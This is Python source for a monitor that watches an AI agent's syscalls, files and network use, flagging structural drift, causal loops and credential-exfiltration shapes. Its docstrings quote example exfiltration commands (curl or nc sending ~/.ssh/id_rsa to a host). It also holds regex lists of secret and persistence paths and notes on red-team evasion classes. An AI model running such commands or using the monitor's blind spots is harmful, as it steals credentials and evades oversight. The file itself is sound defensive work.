"""L3 structural causality: the causal graph of the agent, and its syscall sequences.

The graph's nodes are process *images* (``exe:``), files (``file:``,
``dir:``) and endpoints (``net:``); its edges say how information or control
flowed between them:

* ``exec``  image that called execve -> new image, and ``load``  file -> image
  (so writing a file and then executing it is a path through the graph);
* ``read``  file -> image (open O_RDONLY/O_RDWR), ``write`` image -> file
  (O_WRONLY/O_RDWR; O_TMPFILE: the directory's unnamed file), ``list`` dir ->
  image (O_DIRECTORY);
* ``connect``/``send`` image -> endpoint; ``ptrace`` image -> image.

Nodes are normalised so that pids, temp names and churning work files do not
make every batch novel: pids live only in a pid->image map; ``/proc/<pid>``
becomes ``/proc/*``; path components that look generated (hex, digits,
``tmpXXXXXX``) become ``*``; and outside system directories a file is
represented by its directory and extension (``/work/notes/*.md``), while
system and hidden paths keep their names (``/etc/shadow``, ``~/.ssh/id_rsa``)
because there the name is the meaning.

Divergence per batch = graph novelty + sequence novelty, each standardised
by its own baseline spread:

* a new program's secret read plus a new program's egress to a named inet
  endpoint in the same batch (:func:`exfil_shape`): ``EXFIL_UNITS``, drift on
  its own at the floor;
* graph: new nodes, plus new edges between two nodes the baseline already
  had, relative to the baseline graph (an edge that brings a new node in is
  counted with that node: a program run for the first time reads a dozen
  known libraries, which is one new thing; and what only tools touch -- new
  programs, or known ones other than the agent's own image: their libraries,
  locale data, /etc/passwd, their writes in ordinary places -- is those
  programs' footprint unless it is a secret or a
  persistence/system write, see :func:`structural_novelty`; and an
  interpreter the baseline had reading installed code is a lazy import, see
  :func:`runtime_code`), in units of the baseline's own
  90th-percentile leave-one-out novelty (at least 4);
* sequences: the mean novelty (nats) of the batch's ``max(top_k,
  top_frac * n)`` most novel syscall windows under
  :class:`h7.detect.sequence.SequenceModel` with the ``seq_*`` settings of ``[detect.l3]``
  (chosen on five public corpora, docs/sequence-model.md), above the
  baseline's median, in units of its upper spread (q90 - q50).  Windows of
  processes running an image the baseline never had are left out: such a
  program has no baseline syscall language, and its novelty is already the
  graph's new ``exe:`` node.  Likewise the windows of a thread that, in the
  batch, starts or waits on a child or imports installed code, and the
  start-up and futex waits of a thread born in the batch, unless that thread read a secret
  or wrote a persistence path (:meth:`CausalChannel.explained_threads`): those
  are the graph's to judge, and to an agent whose baseline never did them
  every such window is novel.

The kernel computes every thread's window (its last six syscalls) itself.
After the baseline this channel names the windows it does not need to see
again -- those at most as novel as the ``[detect.l3] known_quantile`` of baseline
positions, ``tau`` -- and the sensor tells the kernel to stop shipping them
(:meth:`CausalChannel.kernel_filter`).  Every known window then counts as
novelty ``tau`` exactly, whether the kernel dropped it or shipped it (the
filter is off in a replay, or missed one): the score is a function of the
batch, not of where the filtering happened.  ``tau`` is far below the
alerting range, so clipping the common windows at ``tau`` changes only the
scores of quiet batches, and the calibration below clips the same way.

The threshold is calibrated on the baseline itself: each baseline batch's
graph novelty against the graph of all other batches (leave-one-out) and its
sequence novelty under a model fitted without it (interleaved k-fold).

``CAUSAL_CYCLE_DETECTED`` is searched in a second, process-level graph
(:class:`ProcEdge`): nodes are process instances, edges are ``spawn``
(fork) and ``flow`` -- one process opened a concrete path for writing and a
*different* process later read or executed that same path.  A path is the
one the kernel walks (:func:`resolve_path`): absolute, or relative to the
process's working directory, which the kernel's chdir records name (inherited
at fork; an unknown one is shared only by the processes that inherited it), so
a tool that writes ``loot.dat`` in its work directory and the agent reading
``/work/loot.dat`` are one file.  A loop is the agent's data coming back to
it: a flow INTO an agent process (:meth:`CausalGraphBuilder.is_agent`: what
ran in the watched tree before the sensor saw it fork, and its forks until
they exec) whose writer, when it wrote, was the agent's own child (a fork, or
a program an agent process started) or had read a file an agent process
wrote (``ProcEdge.via``): the agent writes a script a child runs and reads
back what the child wrote, a tool the agent ran writes what the agent then
reads.  What is not a loop:

* a tool's own processes handing files to each other (``git bisect``'s
  checkout child writing the ``HEAD`` its parent re-reads): the agent is not
  on it;
* a pipeline the agent started whose last step neither is the agent's child
  nor read the agent's data (``make``: cc1 reads the agent's source, ``as``
  and ``ld`` read what the step before wrote, the agent reads the binary);
* a writer fed the agent's file only after it wrote (a loop runs forward in time);
* one process reading back its own files (git's object store, pip's build
  tree, a cache): no flow without two processes;
* two different files that normalise to one image-level node (``/tmp/*``):
  flows match concrete paths, never normalised names;
* files that carry nothing from one program to another (``/dev/null``,
  ttys, ``/proc``, ``/sys``, ``__pycache__``), and relative paths opened
  against a directory fd (their directory is unknown);
* exec chains alone (``bash -exec-> env -exec-> bash``): no data flows.

A loop alerts once per shape (its images and its flows at image level) and
only if one of its flows, at image level (writer image, file node, reader
image), never occurred in the baseline and carries data written after it
(a file written while the baseline was learnt is the baseline's state).  A loop can
close minutes after it opened: the last writers of 65,536 paths are kept, each
with how the agent had reached it when it wrote.  When a
cycle fires in a batch, that batch's structural-drift score is reported in
the cycle alert rather than as a second alert about the same new edges.
"""

from __future__ import annotations

import hashlib
import os
import platform
import posixpath
import re
from collections import Counter, OrderedDict, deque
from collections.abc import Callable
from dataclasses import dataclass
from functools import lru_cache
from typing import Any, NamedTuple

import numpy as np

from h7.alert import Alert
from h7.batch import Batch, Event
from h7.config import EngineConfig
from h7.decode import NOT_FLOW_OPS, OUTSIDE_TYPES, SHM_RDONLY, TOKEN_BITS, TOKEN_OTHER, WINDOW_LEN
from h7.detect.channels.base import Calibration, Channel, ChannelContext, calibrate_threshold, kfold_indices
from h7.detect.programs import SHELLS, TRANSPARENT_LAUNCHERS, code_operand, normalise_name
from h7.detect.sequence import SequenceModel, in_sorted
from h7.detect.syscall_table import X86_64
from h7.detect.syscalls import TABLES, syscall_name
from h7.errors import UsageError
from h7.registry import AlertCode, ChannelSpec, register

Edge = tuple[str, str, str]  # (src, dst, kind)

#: certified loops remembered by their processes (CausalChannel._cycles): a loop is three live
#: process instances, so this bounds memory on an agent that forks for ever, not a working set
LOOP_KEYS_MAX = 4096
O_ACCMODE = 0o3
O_WRONLY = 0o1
O_RDWR = 0o2
O_DIRECTORY = 0o200000
# open(2)'s O_TMPFILE is __O_TMPFILE | O_DIRECTORY: an unnamed regular file created in the named
# directory, never a listing of it (red-team round 10's l3r10_cycle_otmpfile_procfd class)
O_TMPFILE = 0o20000000 | O_DIRECTORY
# An unnamed O_TMPFILE file's concrete name (see CausalGraphBuilder._held_file): its directory plus
# the inode the kernel's file record names, so each is a file of its own and never a real name
TMPFILE_NAME = "#O_TMPFILE:{dev}:{ino}:{gen}"
_SYSTEM_PREFIXES = (
    "/etc/", "/usr/", "/bin/", "/sbin/", "/lib/", "/lib32/", "/lib64/", "/boot/", "/dev/", "/proc/",
    "/sys/", "/root/", "/var/lib/", "/var/run/", "/run/", "/opt/",
)  # fmt: skip
_PROC_PID = re.compile(r"^/proc/(\d+|self|thread-self)(?=/|$)")
# A process's working directory and root as magic links: /proc/PID/cwd/x is the file x in PID's cwd
_PROC_LINK = re.compile(r"^/proc/(\d+|self|thread-self)/(cwd|root)(?=/|$)/*(.*)$")
_HEX = re.compile(r"^[0-9a-f]{8,}$", re.I)
_DIGITS = re.compile(r"\d+")
_EXT = re.compile(r"^\.[A-Za-z0-9_]{1,8}$")
# POSIX shared memory, semaphores and message queues live as files under these directories, under
# names their libraries make unique with a random tail: glibc's sem_open creates ``sem.XXXXXX`` and
# links it to the final name, CPython's multiprocessing names its locks ``sem.mp-<8 random>`` and
# its SharedMemory ``psm_<8 random hex>``.  Each is one kind of object, not a new file per run.
_IPC_DIRS = ("/dev/shm/", "/dev/mqueue/")
_IPC_TAIL = re.compile(r"^(.*?[._-])[A-Za-z0-9_]{6,}$")

AT_FDCWD = -100
MAX_BFS = 50_000  # processes one cycle search may visit
MAX_WRITERS = 4  # writer processes remembered per concrete path
#: file records of a file a process holds without a path open: received over SCM_RIGHTS, opened by
#: its handle (open_by_handle_at), taken from another process (pidfd_getfd), reopened through a
#: magic link (/proc/PID/fd/N: the open's path names only /proc, the record the file it returned)
HELD_OPS = frozenset({"received", "by_handle", "taken", "reopened"})
SHM_NODE = "shm:sysv"  # SysV shared-memory segments, one image-level node (keys and ids are arbitrary)
MAX_POOL_THREADS = 4096  # pool threads remembered (bound; see CausalChannel._pool_threads)
MAX_PIPELINE_DEPTH = 32  # fork generations walked up to tie a writer to the tool that started it
# Files that carry no data from one program to another: character devices every
# program shares (/dev/null, ttys, random), kernel interfaces, and the interpreter's
# own bytecode cache (derived from a source file whose own flow is tracked).
_NO_FLOW_PREFIXES = ("/dev/", "/proc/", "/sys/")
_FLOW_DEV_OK = ("/dev/shm/", "/dev/mqueue/")
_CACHE_PARTS = ("/__pycache__/",)
_CODE_EXTS = (".py", ".pyc", ".pyo", ".pyi", ".so", ".js", ".cjs", ".mjs", ".d.ts")
_MODULE_ROOT = re.compile(r"/(site-packages|dist-packages|node_modules)/|/lib/python[^/]*/")
# Secrets (never a footprint): password/group shadows, sudo rules, keys, credentials, histories, environ
_SECRET = re.compile(
    r"shadow|sudoers|opasswd|htpasswd|/ssh/|(^|/)\.(ssh|gnupg|aws|kube|docker)/|/private/|"
    r"\.(key|p12|pfx|keytab)$|(^|/)id_[a-z0-9]+(\.pub)?$|(^|/)[^/]*(credential|secret|password)[^/]*$|(^|/)\.?tokens?$|"
    r"\.netrc$|\.pgpass$|\.git-credentials$|_history$|/environ$|/mem$",
    re.I,
)
# (nodes are normalised: /lib32 and /lib64 are /lib#)
_SYSTEM_WRITE = (
    "/etc/", "/usr/", "/bin/", "/sbin/", "/lib/", "/lib#/", "/boot/", "/opt/",
    "/var/lib/", "/var/spool/",
)  # fmt: skip
_PERSISTENCE = re.compile(
    r"/cron|/systemd/|/autostart/|(^|/)\.git/hooks/(?![^/]*\.sample$)|(^|/)\.(bash|zsh|ksh)?(rc|_profile|_login|_logout|env)$|"
    r"(^|/)\.profile$|(^|/)\.(bashrc|zshrc|zprofile|zshenv|xinitrc|xprofile)$|\.pth$|(site|user)customize\.py$|"
    r"/authorized_keys|/\.config/fish/|/init\.d/|/rc\.local$",
    re.I,
)
G_SCALE_FLOOR = 4.0  # four new structural elements (edges + nodes) = one unit of graph novelty
# nats: a 30-batch baseline's q90 - q50 cannot see a long soak's tail (rare thread interleavings of an
# agent's in-process server: +1.38 nats over the median once in a 10-min dev soak); every dev stack's
# measured spread was below this floor (docs/detection.md L3)
S_SPREAD_FLOOR = 1.0
L3_FLOOR = 4.0  # units: a new program or a few new files is not "structural drift"
# units of a new program's secret read + new egress in one batch (exfil_shape): drift on its own at the floor
EXFIL_UNITS = L3_FLOOR
EXFIL_WINDOW_NS = 10 * 10**9  # a new program's secret read pairs with a new program's egress this long after
MAX_EXFIL_READS = 1024  # secret reads remembered (bound)
KFOLD = 5
# Path classifiers are pure functions of a normalised node, asked per open record: cached per node
NODE_CACHE = 65536
#: raw paths whose node names are kept (``normalise_file``): ~1 MB at most
PATH_CACHE = 4096
# A thread with a child this recent is still starting or waiting on it (see spawning_threads): a
# tool's run, not a daemon's lifetime
SPAWN_HOLD_NS = 30 * 10**9
CodeCounts = tuple[np.ndarray, np.ndarray]  # distinct window codes, how often each occurred


@dataclass
class L3Settings:
    """``[detect.l3]``."""

    #: a causal cycle must run through at least this many distinct processes (a loop has >= 2)
    min_cycle_processes: int = 2
    #: baseline positions at most this novel (as a quantile) become "known" windows the
    #: kernel stops shipping after the baseline; 0 ships everything
    known_quantile: float = 0.99
    #: process flow-graph edges kept (memory bound): a flow already in it is not fresh again
    max_edges: int = 200_000
    #: the sequence model: a batch scores the mean of its max(seq_top_k, ceil(seq_top_frac * n))
    #: most novel windows under an order-seq_order model, novelty "mix" or "last".  Defaults: the
    #: setting with the best worst-case margin over stide on five public corpora
    #: (docs/sequence-model.md); the old top-8 lost to stide by 0.21 AUC on ADFA-LD.
    seq_order: int = 4
    seq_novelty: str = "last"
    seq_top_k: int = 64
    seq_top_frac: float = 0.5
    #: "wb" Witten-Bell or "kn" Kneser-Ney (docs/sequence-model.md: no better leave-one-corpus-out)
    seq_smoothing: str = "wb"
    #: an interpreter the agent starts on code only it can have handed over (a file it wrote, inline
    #: code, stdin) is the agent's own code for the loop rule, not a tool it started, and closes the
    #: loops it starts itself (CausalGraphBuilder._authored; docs/detection.md, L3, "The agent's own
    #: code in a child interpreter")
    agent_code_runs: bool = True
    #: a read of a file its agent wrote is a read of the file the kernel returned (its inode), not
    #: only of the path the open spelled: a symlinked directory, a hard link, a bind mount or a
    #: directory fd cannot split one file in two (CausalGraphBuilder._held_file, op read_written)
    reads_by_inode: bool = True

    def __post_init__(self) -> None:
        if not 0.0 <= self.known_quantile < 1.0:
            raise UsageError("known_quantile must be in [0, 1)")
        try:
            self.sequence_model()
        except ValueError as e:
            raise UsageError(str(e)) from None

    def sequence_model(self) -> SequenceModel:
        """An unfitted model with these settings (the one place L3 builds its models)."""
        return SequenceModel(
            order=self.seq_order,
            top_k=self.seq_top_k,
            top_frac=self.seq_top_frac,
            novelty=self.seq_novelty,
            smoothing=self.seq_smoothing,
        )


def _component(c: str) -> str:
    if c.isdigit():
        return "#"
    if _HEX.match(c) or (c.startswith("tmp") and len(c) > 6):
        return "*"
    if (
        len(c) >= 8
        and c.isalnum()
        and sum(ch.isdigit() for ch in c) >= 2
        and sum(ch.isalpha() for ch in c) >= 2
    ):
        return "*"  # one generated token (a8f3kq1z), not a versioned name (python3.11)
    return _DIGITS.sub("#", c)


def normalise_dir(d: str) -> str:
    d = _PROC_PID.sub("/proc/*", d)
    parts = d.split("/")
    return "/".join(p if p in ("", "*", ".", "..") else _component(p) for p in parts)


def ipc_name(base: str) -> str:
    """A POSIX IPC object's name (``/dev/shm``, ``/dev/mqueue``) without its generated tail.

    ``sem.EzjWch`` -> ``sem.*``, ``sem.mp-fzbn3cpy`` -> ``sem.mp-*``: a
    ``multiprocessing`` Queue made six such names in one batch of red-team
    round 8's benign pool (three semaphores, each a temporary and a final
    name), six new graph nodes for one kind of object.  A name without a
    separator before a random-looking tail keeps the generic rule.
    """
    m = _IPC_TAIL.match(base)
    return f"{m.group(1)}*" if m else _component(base)


@lru_cache(maxsize=PATH_CACHE)
def normalise_file(path: str) -> str:
    """File path -> graph node name (see module docstring).

    Cached: a pure function of the path, and the same paths come back (a tool re-reading its
    inputs, an open flood of a few files) -- it was a third of L3's batch cost per open record
    (docs/performance.md, session 23).  Bounded small: distinct paths (a tree walk) only cycle
    through it, at ~0.3 KB an entry.
    """
    path = _PROC_PID.sub("/proc/*", path)
    d, base = os.path.split(path)
    nd = normalise_dir(d) if d else "."
    full = nd.rstrip("/") + "/"
    if base and full.startswith(_IPC_DIRS):
        return f"{full}{ipc_name(base)}"
    hidden = any(p.startswith(".") and p not in (".", "..") for p in d.split("/"))
    if full.startswith(_SYSTEM_PREFIXES) or hidden or base.startswith("."):
        return f"{full}{_component(base) if base else ''}"
    ext = os.path.splitext(base)[1]
    return f"{full}*{ext if _EXT.match(ext) else ''}"


def normalise_exe(path: str) -> str:
    """Executable image: normalised directory, exact name (the name is what runs)."""
    d, base = os.path.split(path)
    return f"exe:{normalise_dir(d) + '/' if d else ''}{base}"


@lru_cache(maxsize=NODE_CACHE)
def is_secret(node: str) -> bool:
    """A credential, key or password store: never part of a program's ordinary footprint.

    A runtime's own module named like one is code, not a secret: the standard
    library's ``secrets`` (which ``multiprocessing.shared_memory`` imports to name
    its blocks), ``botocore/credentials.py``, ``getpass``-like helpers.  Reading
    it is an import; counted as a secret read it made the importing thread
    "sensitive" and its windows scored (session 10: 8.7 units of STRUCTURAL_DRIFT
    in a first, discarded recording of the DEV pool with shared memory).  Only
    code files inside a module tree.
    """
    path = node.partition(":")[2]
    if path.endswith(_CODE_EXTS) and _MODULE_ROOT.search(path):
        return False
    return bool(_SECRET.search(path))


@lru_cache(maxsize=NODE_CACHE)
def is_persistence(node: str) -> bool:
    """A write that changes the system or makes code run later: system directories, shell start-up
    files, cron, services, autostart, git hooks, ``.pth`` -- written by anyone, it counts."""
    path = node.partition(":")[2]
    return path.startswith(_SYSTEM_WRITE) or bool(_PERSISTENCE.search(path))


@lru_cache(maxsize=NODE_CACHE)
def module_root(node: str) -> str | None:
    """The root of the runtime module tree a node lies in (``.../site-packages/``), or None."""
    path = node.partition(":")[2] + ("/" if node.startswith("dir:") else "")
    m = _MODULE_ROOT.search(path)
    return path[: m.end()] if m else None


# Module trees the operating system installs (the interpreters' own standard libraries and
# distribution packages): root-owned, written only by the package manager.
_SYSTEM_MODULE_PREFIXES = ("/usr/", "/lib/", "/lib#/", "/lib64/")


def runtime_code(node: str, known_roots: set[str]) -> bool:
    """A file or directory of a runtime's installed code: a system module tree, or one the baseline used.

    An interpreter the agent already ran reading it is a lazy import (``concurrent.futures`` the
    first time a thread pool is needed), not a change in what the agent does.
    """
    root = module_root(node)
    return root is not None and installed_root(root, known_roots)


def installed_root(root: str, known_roots: set[str]) -> bool:
    """Is this module tree (:func:`module_root`) installed by the system, or one the baseline used?"""
    return root.startswith(_SYSTEM_MODULE_PREFIXES) or root in known_roots


def module_roots(nodes: set[str]) -> set[str]:
    """The module trees a set of nodes (the baseline's) touched."""
    return {r for r in (module_root(v) for v in nodes) if r is not None}


def footprint(
    edges: set[Edge], fresh: set[str], known_roots: set[str] | None, agent_image: str | None = None
) -> set[str]:
    """The new nodes that only tools touched (new programs, or known ones other than the agent's own
    image when ``agent_image`` is given), or that build a new environment.

    See :func:`structural_novelty` for the rule and what stays counted.
    """
    own = {v for v in fresh if not v.startswith("exe:") and not is_secret(v)}
    roots = known_roots if known_roots is not None else set()

    def tool(v: str) -> bool:
        return v.startswith("exe:") and (v in fresh or (agent_image is not None and v != agent_image))

    for a, b, kind in edges:
        by_new_reader = tool(b)
        if a in own and not (kind in ("read", "load", "list") and (by_new_reader or runtime_code(a, roots))):
            own.discard(a)  # something the agent itself read counts
        if b in own:
            by_new = tool(a)
            root = module_root(b)
            new_env = root is not None and root not in roots
            if kind == "connect":
                if not (by_new and b == "net:unix"):
                    own.discard(b)  # an endpoint counts (a named one, anyone's)
            elif (
                kind != "write"
                or is_persistence(b)
                or not ((by_new and (root is None or new_env)) or new_env)
            ):
                own.discard(b)  # the agent's own writes, and anything written into its runtime's tree
    return own


def structural_novelty(
    edges: set[Edge],
    known_edge: Callable[[Edge], bool],
    known_node: Callable[[str], bool],
    known_roots: set[str] | None = None,
    agent_image: str | None = None,
) -> tuple[float, list[Edge], list[str]]:
    """Graph novelty of a batch: new nodes, plus new edges between two *known* nodes.

    An edge that brings a new node in is that node's novelty, counted once
    with it: a program run for the first time reads a dozen libraries the
    agent already read, and that is one new thing, not a dozen.  Likewise
    the new nodes that only *new programs* touched are those programs'
    footprint (:func:`footprint`), counted with them: what a tool the agent
    runs for the first time reads (its executable, libraries, locale data,
    /etc/passwd, a resolver socket, the files of its task), and what it writes
    in ordinary places (git's objects and logs in a new repository, pip's
    build tree) -- one new program, not twenty new files.  Counted whoever
    touches them: secrets (:func:`is_secret`: keys, credentials, shadow
    files, histories, ``/proc/*/environ``), writes that change the system or
    make code run later (:func:`is_persistence`), named endpoints, writes
    into a runtime module tree the baseline used (``known_roots``: a ``.pth``
    in the agent's site-packages), and anything the agent's own image
    (``agent_image``) reads or writes for the first time.  A tool the baseline
    already ran (``git`` after a baseline that committed once) doing its work
    in a new place -- a clone's whole ``.git`` -- is that tool's footprint as a
    new program's would be (105 new elements, a false drift, on the dev
    journal tests/journals/l3/git_known_new_repo_dev); without ``agent_image``
    every known program's first touches count, as before that journal.  A
    secret or persistence file the baseline already had is known, but a new
    program reading (secret) or writing (persistence) it is one more element:
    that edge is the news, not the program.
    Files written into a module tree the baseline never touched (a fresh
    venv's site-packages, even by the agent's own interpreter running ``-m
    venv``) are a new environment being built, not a change to the agent's.
    Returns the count, the new edges and the new nodes (all of them, for evidence).
    """
    new_e = sorted(e for e in edges if not known_edge(e))
    nodes = {e[0] for e in edges} | {e[1] for e in edges}
    new_n = sorted(v for v in nodes if not known_node(v))
    own = footprint(edges, set(new_n), known_roots, agent_image)
    between_known = sum(1 for e in new_e if known_node(e[0]) and known_node(e[1]))
    # A new program reading a secret or writing a persistence/system file the baseline already
    # had: the node is known and the program new, but that edge is the news, not the program.
    sensitive = sum(
        1
        for a, b, kind in new_e
        if not (known_node(a) and known_node(b))
        and (
            (kind == "read" and known_node(a) and is_secret(a))
            or (kind == "write" and known_node(b) and is_persistence(b))
        )
    )
    return float(len(new_n) - len(own) + between_known + sensitive), new_e, new_n


def _new_secret_reads(
    edges: set[Edge], known_node: Callable[[str], bool], known_edge: Callable[[Edge], bool]
) -> set[str]:
    """Secret files read by a program the baseline never ran, or read in a way the baseline never did.

    The second covers the agent's own image reading a key for the first time
    (injected code opening ``~/.ssh/id_rsa`` and handing it to ``curl``); a
    credential the agent's client reads on every request is in the baseline.
    Key material only, not ``/proc``: ``ps``/``top`` read every process's
    ``/proc/*/environ`` as they list them (L5 judges such reads and knows the
    sweep); a listing followed by a ``curl`` is no exfiltration shape.
    """
    return {
        e[0]
        for e in edges
        if e[2] == "read"
        and is_secret(e[0])
        and not e[0].startswith("file:/proc/")
        and e[1].startswith("exe:")
        and (not known_node(e[1]) or not known_edge(e))
    }


def _new_egress(edges: set[Edge], known_node: Callable[[str], bool]) -> set[str]:
    return {
        b
        for a, b, k in edges
        if k in ("connect", "send") and b.startswith(("net:inet:", "net:inet6:")) and not known_node(a)
    }


def exfil_shape(
    edges: set[Edge], known_node: Callable[[str], bool], known_edge: Callable[[Edge], bool]
) -> list[str]:
    """A new secret read (:func:`_new_secret_reads`) and a program the baseline never ran reaching an
    inet destination, in one batch.

    ``curl --data-binary @~/.ssh/id_rsa http://...``, ``cat key | nc host``: the
    shape of a program started to carry a credential out.  Each half alone is
    ordinary for a new tool (a new program's endpoint is L4's to judge), so only
    the pair is drift by itself.  Returns the evidence (the secrets and the
    endpoints), empty when the batch has no such pair.  (Monitoring also
    pairs a send with a read up to EXFIL_WINDOW_NS earlier: :class:`ExfilWindow`.)
    """
    secrets = _new_secret_reads(edges, known_node, known_edge)
    dests = _new_egress(edges, known_node) if secrets else set()
    return [*sorted(secrets), *sorted(dests)] if dests else []


class ExfilWindow:
    """:func:`exfil_shape` over a sliding window: a key read by a new program, sent out a little later.

    ``cat ~/.ssh/id_rsa > /tmp/x; sleep 1; curl -d @/tmp/x ...`` puts the read
    and the send in two batches; a new program's secret read is remembered for
    EXFIL_WINDOW_NS and pairs with a new program's egress in any later batch of
    that window (a read after the send is no exfiltration of it).
    """

    def __init__(self) -> None:
        self._reads: deque[tuple[int, str]] = deque()

    def observe(
        self,
        t_ns: int,
        edges: set[Edge],
        known_node: Callable[[str], bool],
        known_edge: Callable[[Edge], bool],
    ) -> list[str]:
        """The batch ending at ``t_ns``: its shape evidence (secrets read in the window, endpoints now)."""
        for node in sorted(_new_secret_reads(edges, known_node, known_edge)):
            self._reads.append((t_ns, node))
        while self._reads and (
            t_ns - self._reads[0][0] > EXFIL_WINDOW_NS or len(self._reads) > MAX_EXFIL_READS
        ):
            self._reads.popleft()
        if not self._reads:
            return []
        dests = _new_egress(edges, known_node)
        return [*sorted({n for _, n in self._reads}), *sorted(dests)] if dests else []


def _bounded_put(d: dict[Any, Any], key: Any, value: Any, limit: int) -> None:
    """``d[key] = value``, dropping the oldest entry first when ``d`` holds ``limit`` (memory bound)."""
    if key not in d and len(d) >= limit:
        d.pop(next(iter(d)))
    d[key] = value


class ProcEdge(NamedTuple):
    """An edge of the process-level flow graph that causal cycles are searched in.

    Nodes are process instances (``pid.generation``), not images: two processes
    running the same interpreter are two nodes, and one process reading back
    what it wrote itself is no edge at all.  ``spawn``: parent -> child (fork).
    ``flow``: a process opened a concrete ``path`` for writing and a different
    process later opened the *same* path for reading or executed it.  ``proj``
    is the edge seen at image level, ``(writer image, file node, reader image)``
    for a flow, which is what "the baseline already had it" is judged on.
    """

    src: str
    dst: str
    kind: str
    path: str
    proj: tuple[str, str, str]
    #: a flow whose data was written during the baseline (see CausalChannel._cycles)
    baseline_data: bool = False
    #: for a flow INTO an agent process (:meth:`CausalGraphBuilder.is_agent`): how the agent
    #: reached its writer before the write -- the spawn of the writer by an agent process, or a
    #: flow of an agent process's file into the writer; None when the agent did not (a build's
    #: linker, a tool's own child).  A flow with it closes a loop (CausalChannel._cycles).
    via: ProcEdge | None = None


def resolve_path(path: str, cwd: str) -> str | None:
    """The path the kernel walks for ``path`` opened against the working directory ``cwd``.

    Lexical, as far as the name goes: ``.`` and repeated ``/`` go, ``..`` removes
    the segment before it; symlinks are not followed (the kernel's walk would,
    and a link's target is the filesystem's state, not the record's).  An
    unknown working directory is a token (``?<process>``, see
    :meth:`CausalGraphBuilder.cwd_of`) that every process inheriting it shares:
    a relative path against it names one file for all of them and for no one
    else; one that climbs out of it (``../x``) names nothing known (None).
    """
    if not path:
        return None
    if path.startswith("/"):
        return "/" + posixpath.normpath(path).lstrip("/")  # normpath keeps a leading "//"; the kernel not
    rel = posixpath.normpath(path)
    if cwd.startswith("/"):
        return "/" + posixpath.normpath(f"{cwd}/{rel}").lstrip("/")
    if rel == ".." or rel.startswith("../"):
        return None
    return cwd if rel == "." else f"{cwd}/{rel}"


def spelled_part(path: str) -> str:
    """A resolved path as it is named in the graph: relative to an unknown cwd, as the process spelled it."""
    return path.split("/", 1)[1] if path.startswith("?") and "/" in path else path


def carries_data(path: str) -> bool:
    """Can a write to ``path`` by one program be what another program reads?"""
    if not path:
        return False
    if path.startswith(_NO_FLOW_PREFIXES) and not path.startswith(_FLOW_DEV_OK):
        return False
    return not any(c in path for c in _CACHE_PARTS) and not path.endswith((".pyc", ".pyo"))


class CausalGraphBuilder:
    """Turns events into normalised edges, tracking which image each pid runs."""

    def __init__(
        self, root_pid: int | None, root_exe: str | None, max_pids: int = 65536, max_paths: int = 65536
    ) -> None:
        self.images: dict[int, str] = {}
        self.root_pid = root_pid
        self.max_pids = max_pids
        self.max_paths = max_paths
        if root_pid and root_exe:
            self.images[root_pid] = normalise_exe(root_exe)
        # The process-level flow graph's state (see ProcEdge): which process instance each
        # pid is now, and which instances last opened each concrete path for writing.
        self._inst: dict[int, str] = {}
        self._gen = 0
        self.proc_image: dict[str, str] = {}  # process instance -> the image it runs (last exec)
        self.batch_images: dict[int, str] = {}  # pid -> image, of the processes in the last batch's events
        # Process start-up by a thread (see spawning_threads): child pid -> (forking tid, fork time)
        self._children: dict[int, tuple[int, int, int]] = {}  # child pid -> (forking tid, time, parent pid)
        self.batch_spawners: set[int] = set()  # tids that forked or reaped a child in the last batch
        self.batch_spawner_pids: set[int] = set()  # their processes
        self.batch_imports: dict[int, set[str]] = {}  # tid -> module trees it read code from, last batch
        self.batch_sensitive: set[int] = set()  # tids that read a secret / wrote a persistence path in it
        self.batch_workers: set[int] = set()  # pids of fresh forks of the agent, no exec (see fresh_forks)
        # concrete path -> its last writers: (process instance, image, wrote it while learning,
        # how the agent reached that writer before it wrote: see ProcEdge.via and _link)
        self.writers: dict[str, list[tuple[str, str, bool, ProcEdge | None]]] = {}
        # The agent's own processes (see is_agent): instance -> first seen without a fork record
        # (the attached agent and what ran in its tree before the sensor did) or not (a fork of
        # one: the agent's code until it execs; only the attached process stays it across an exec)
        self._agent: dict[str, bool] = {}
        # The agent's code run in a child interpreter (see _authored): instance -> the agent-written
        # file it runs (or "inline:-c"...), and concrete path -> the agent process that last wrote
        # it (a later writer that is not the agent takes the path out: its content is then theirs)
        self.agent_code_runs = True  # [detect.l3] agent_code_runs
        self.reads_by_inode = True  # [detect.l3] reads_by_inode
        self.respelled_reads = 0  # reads of a written file its open named otherwise (by inode)
        self._agent_code: dict[str, str] = {}
        self._agent_wrote: dict[str, str] = {}
        # instance -> the edge by which an agent process reached it: the spawn of it by an agent
        # process, or the first flow of an agent process's file into it (a tool fed the agent's data)
        self._spawned: dict[str, ProcEdge] = {}
        self._fed: dict[str, ProcEdge] = {}
        # instance -> the instance that forked it (kept after exits: a writer is asked about later)
        self._parent: dict[str, str] = {}
        # tools that read a file one of their own descendants wrote: their later writes hand back
        # that pipeline's product (see _relays), not what the agent gave them
        self._relaying: set[str] = set()
        self.learning = True  # the channel sets it: writes made now are the baseline's
        self._renaming: dict[int, str] = {}  # tid -> old name of a rename whose new name comes next
        # Working directory per process (pid -> absolute path, or an unknown one's token), from the
        # kernel's chdir records: inherited at fork, kept across exec (see cwd_of)
        self.cwd: dict[int, str] = {}
        self._fchdirs = 0
        # Files held without an open of their own (an fd received over SCM_RIGHTS): the kernel names
        # them by (dev, inode, generation); a writable open's `file` record (op "opened", just after
        # its sys_enter open record, same thread) says which concrete path that inode was written by
        self._last_open: dict[int, str | None] = {}  # tid -> its last open's concrete path (None: unknown)
        self._last_tmpfile: dict[int, bool] = {}  # tids whose last open was an O_TMPFILE (path: its dir)
        self.inode_paths: dict[tuple[int, int, int], str] = {}
        self._path_inode: dict[str, tuple[int, int, int]] = {}  # the reverse, for renames
        # SysV shared memory (see _shm): segment -> the processes holding it attached (instance ->
        # image), and each process's attachments (pid -> address -> segment)
        self._shm_holders: dict[str, dict[str, str]] = {}
        self._shm_held: dict[int, dict[int, str]] = {}

    def image(self, ev: Event) -> str:
        pid = int(ev.get("pid", 0))
        img = self.images.get(pid)
        if img is None:
            img = f"exe:?{ev.get('comm', '')}"
            self._remember(pid, img)
        return img

    def _remember(self, pid: int, img: str) -> None:
        if len(self.images) >= self.max_pids:
            self.images.pop(next(iter(self.images)))
        self.images[pid] = img

    def _proc(self, pid: int) -> str:
        """The process instance ``pid`` is now: pid plus a generation (pids are reused)."""
        node = self._inst.get(pid)
        if node is None:
            node = self._new_proc(pid)
        return node

    def _new_proc(self, pid: int, parent: str | None = None) -> str:
        """A new process instance of ``pid``: forked by ``parent``, or first seen without a fork record.

        One seen without its fork (the attached agent, a server it started before the sensor
